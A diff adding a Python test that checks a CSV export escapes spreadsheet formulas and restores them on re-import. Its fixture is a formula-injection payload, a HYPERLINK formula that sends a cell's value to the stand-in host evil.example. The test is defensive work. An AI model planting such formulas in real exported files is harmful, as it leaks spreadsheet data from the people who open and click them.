@@ -351,3 +351,19 @@ def test_a_file_nested_too_deeply_is_refused_in_words(tmp_path, make_listing, te
     )
     assert "Recursion" not in err.getvalue()
     assert not Provider.objects.exists()  # nor the good file's listings
+
+
+def test_the_tabular_export_neutralises_formulas_and_reads_them_back(tmp_path, make_listing):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    provider = make_listing("Formula Practice", statement=formula)
+    package = tmp_path / "package"
+    call_command("export_hsds", str(package), "--format", "tabular", "--all", stderr=StringIO())
+    text = (package / "organizations.csv").read_text()
+    assert "'=HYPERLINK" in text
+    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+    [row] = tabular.read_csv(text, "organization")
+    assert row["description"] == formula
+    Provider.objects.filter(pk=provider.pk).update(statement="changed")
+    import_(package)
+    provider.refresh_from_db()
+    assert provider.statement == formula
